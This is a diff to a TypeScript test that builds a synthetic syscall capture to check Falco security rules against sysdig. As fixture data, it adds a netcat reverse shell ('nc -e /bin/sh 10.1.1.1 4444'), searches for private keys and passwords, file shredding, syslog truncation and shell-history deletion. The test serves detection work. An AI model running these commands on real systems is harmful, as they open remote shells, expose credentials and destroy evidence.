@@ -20,6 +20,7 @@ import { SyscallSource } from '../../src/syscall/source';
 const RULES = resolve(__dirname, '../../../../../shared/conformance/rules/falco-rules-5.1.0/rules');
 const EMPTY = resolve(__dirname, '../../../../../shared/conformance/falco/captures/empty.scap');
 const EVENTS = 3000;
+const CONTAINER = '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e';
 
 function typeOf(name: string, dir: 'enter' | 'exit'): number {
   const all = EVENT_TABLE.filter((x) => x.name === name && x.dir === dir && (x.flags & EF.UNUSED) === 0);
@@ -76,15 +77,21 @@ function threadInfo(tid: number, comm: string, exepath: string): ThreadInfo {
   };
 }
 
-/** Spawns, opens for reading and writing, reads, writes, connections and closes by 16 processes. */
+/**
+ * Spawns (shells, search and wipe tools, netcat, a binary in /dev/shm), opens for reading and
+ * writing, a truncated log, a deleted shell history, reads, writes, connections (public and
+ * loopback) and closes by 16 processes, two of them in a container.
+ */
 async function synthesise(file: string): Promise<void> {
   const T = {
     clone: typeOf('clone', 'exit'), execve: typeOf('execve', 'exit'), execveE: typeOf('execve', 'enter'), openat: typeOf('openat', 'exit'),
     openatE: typeOf('openat', 'enter'), read: typeOf('read', 'exit'), write: typeOf('write', 'exit'), close: typeOf('close', 'exit'),
     socketE: typeOf('socket', 'enter'), socket: typeOf('socket', 'exit'), connectE: typeOf('connect', 'enter'), connect: typeOf('connect', 'exit'),
-    procexit: typeOf('procexit', 'enter'),
+    procexit: typeOf('procexit', 'enter'), unlinkat: typeOf('unlinkat', 'exit'),
   };
   const threads = Array.from({ length: 16 }, (_, k) => threadInfo(1000 + k, PROGRAMS[k % 8]![0], PROGRAMS[k % 8]![1]));
+  // Two of them run in a container.
+  for (const t of [threads[3]!, threads[12]!]) t.cgroups = [`cpuset=/docker/${CONTAINER}`];
   const b = new BatchBuilder(1 << 22);
   let ts = 1_700_000_000_000_000_000n;
   let n = 0;
@@ -94,18 +101,38 @@ async function synthesise(file: string): Promise<void> {
     n++;
   };
   let nextTid = 5000;
+  const spawn = (p: ThreadInfo, comm: string, exepath: string, args: readonly string[], tty: number): void => {
+    const tid = nextTid++;
+    push(T.clone, tid, { res: 0, exe: p.exe, args: p.args, tid, pid: tid, ptid: p.tid, cwd: '/srv', comm: p.comm, flags: 0, uid: 1000, gid: 1000, vtid: tid, vpid: tid, cgroups: p.cgroups });
+    push(T.execveE, tid, { filename: exepath });
+    push(T.execve, tid, { res: 0, exe: comm, args, tid, pid: tid, ptid: p.tid, comm, cgroups: p.cgroups, env: ['PATH=/usr/bin'], tty, uid: 1000, gid: 1000, filename: exepath, trusted_exepath: exepath, loginuid: 1000 });
+    push(T.procexit, tid, { status: 0, ret: 0, sig: 0, reaper_tid: 1 });
+  };
+  const SPAWNS: Array<[string, string, string[], number]> = [
+    ['bash', '/usr/bin/bash', ['-c', 'echo hi'], 0],
+    ['find', '/usr/bin/find', ['/', '-name', 'id_rsa'], 34816],
+    ['grep', '/usr/bin/grep', ['-r', 'password', '/etc'], 34816],
+    ['shred', '/usr/bin/shred', ['-u', '/tmp/work.txt'], 0],
+    ['payload', '/dev/shm/payload', [], 0],
+    ['nc', '/usr/bin/nc', ['-e', '/bin/sh', '10.1.1.1', '4444'], 0],
+    ['whoami', '/usr/bin/whoami', [], 34816],
+    ['python3', '/usr/bin/python3', ['-c', 'import pty'], 34816],
+  ];
   for (let step = 0; n < EVENTS; step++) {
     const p = threads[step % threads.length]!;
     const fd = 3 + (step % 5);
     const path = FILES[step % FILES.length]!;
-    const r = step % 37;
+    const r = step % 41;
     if (r === 0) {
-      const tid = nextTid++;
-      const [comm, exepath] = PROGRAMS[(step / 37) % 8 | 0]!;
-      push(T.clone, tid, { res: 0, exe: p.exe, args: p.args, tid, pid: tid, ptid: p.tid, cwd: '/srv', comm: p.comm, flags: 0, uid: 1000, gid: 1000, vtid: tid, vpid: tid, cgroups: ['cpuset=/'] });
-      push(T.execveE, tid, { filename: exepath });
-      push(T.execve, tid, { res: 0, exe: comm, args: ['-c', 'echo hi'], tid, pid: tid, ptid: p.tid, comm, cgroups: ['cpuset=/'], env: ['PATH=/usr/bin'], tty: 0, uid: 1000, gid: 1000, filename: exepath, trusted_exepath: exepath, loginuid: 1000 });
-      push(T.procexit, tid, { status: 0, ret: 0, sig: 0, reaper_tid: 1 });
+      const [comm, exepath, args, tty] = SPAWNS[(step / 41) % SPAWNS.length | 0]!;
+      spawn(p, comm, exepath, args, tty);
+    } else if (r === 37) {
+      // Truncating a log, deleting a shell history.
+      push(T.openatE, p.tid, { dirfd: -100, name: '/var/log/syslog', flags: 2 | 256 });
+      push(T.openat, p.tid, { fd, dirfd: -100, name: '/var/log/syslog', flags: 2 | 256 });
+      push(T.unlinkat, p.tid, { res: 0, dirfd: -100, name: '/root/.bash_history', flags: 0 });
+    } else if (r > 37) {
+      push(T.close, p.tid, { res: 0, fd });
     } else if (r < 12) {
       const flags = r % 3 === 0 ? 2 | 4 : 1; // read/write and create, or read only
       push(T.openatE, p.tid, { dirfd: -100, name: path, flags });
@@ -174,7 +201,11 @@ describe('falcosecurity/rules 5.1.0 against sysdig 0.29, rule by rule', () => {
       expect(differences).toEqual([]);
       // The capture exercises rules sysdig accepts as given and rules it accepts with `(systemd)` quoted.
       expect(compared.map((c) => c.replace(/ \d+$/, '')).sort()).toEqual(
-        expect.arrayContaining(['Read sensitive file untrusted', 'System procs network activity', 'Write below etc']),
+        expect.arrayContaining([
+          'Clear Log Activities', 'Delete or rename shell history', 'Netcat/Socat Remote Code Execution on Host', 'Read sensitive file untrusted',
+          'Read ssh information', 'Remove Bulk Data from Disk', 'Search Private Keys or Passwords', 'System procs network activity',
+          'Web Server Spawned Suspicious Child Process', 'Write below etc',
+        ]),
       );
     } finally {
       if (process.env['KEEP'] === undefined) rmSync(dir, { recursive: true, force: true });
